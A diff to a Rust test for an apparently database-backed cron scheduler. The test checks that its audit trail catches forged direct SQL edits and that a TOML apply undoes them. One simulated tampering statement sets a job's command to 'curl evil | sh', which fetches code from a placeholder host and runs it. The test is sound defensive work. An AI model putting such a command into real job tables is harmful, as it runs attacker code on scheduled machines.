@@ -773,6 +773,68 @@ async fn audit_trail_records_who_changed_what(dialect: Dialect) {
         log.iter().all(|r| (now - r.at).abs() < 60_000),
         "database clock"
     );
+
+    let before = log.last().unwrap().id;
+    // Issue 25 (2): a writer that sets `changed_by` itself, or marks a row `removing ...`
+    // before deleting it, is still recorded (PostgreSQL and MySQL: only a value the connection
+    // vouched for counts as sqlcron's own). Issue 25 (4): a SQL edit of a TOML job is undone by
+    // the next apply, and the drift recorded.
+    for sql in [
+        "INSERT INTO cron_table (name, schedule, command, changed_by) \
+         VALUES ('d', '@daily', 'true', 'alice@ops-1 pid 42 #0000000000000001')",
+        "UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'forged' WHERE name = 'a'",
+        "UPDATE cron_table SET changed_by = 'removing forged' WHERE name = 'd'",
+        "DELETE FROM cron_table WHERE name = 'd'",
+    ] {
+        store.execute_raw(sql).await.unwrap();
+    }
+    let report = store
+        .apply_toml(&[job("a", "echo v2")], false, &alice)
+        .await
+        .unwrap();
+    assert_eq!(
+        report.restored,
+        vec![("a".to_string(), "command,retries,timeout".to_string())]
+    );
+    let command: Option<String> = store
+        .scalar("SELECT command FROM cron_table WHERE name = 'a'")
+        .await
+        .unwrap();
+    assert_eq!(command.as_deref(), Some("echo v2"));
+    let again = store
+        .apply_toml(&[job("a", "echo v2")], false, &alice)
+        .await
+        .unwrap();
+    assert!(again.restored.is_empty() && again.updated.is_empty());
+    let log = store.audit_log(None, 100).await.unwrap();
+    let mut newest: Vec<(&str, &str)> = log
+        .iter()
+        .take_while(|r| r.id > before)
+        .map(|r| (r.action.as_str(), r.job.as_deref().unwrap_or("")))
+        .collect();
+    newest.reverse();
+    let expected = if dialect == Dialect::Sqlite {
+        // A writer of the SQLite file can do anything, triggers included (docs/security.md).
+        vec![("apply_restore", "a")]
+    } else {
+        vec![
+            ("sql_insert", "d"),
+            ("sql_update", "a"),
+            ("sql_delete", "d"),
+            ("apply_restore", "a"),
+        ]
+    };
+    assert_eq!(newest, expected);
+    let restore = log.iter().find(|r| r.action == "apply_restore").unwrap();
+    assert_eq!(restore.who, "alice");
+    assert!(
+        restore
+            .detail
+            .as_deref()
+            .unwrap()
+            .starts_with("restored command,retries,timeout"),
+        "{restore:?}"
+    );
     assert_eq!(store.audit_log(Some("c"), 100).await.unwrap().len(), 3);
     store.close().await;
 }
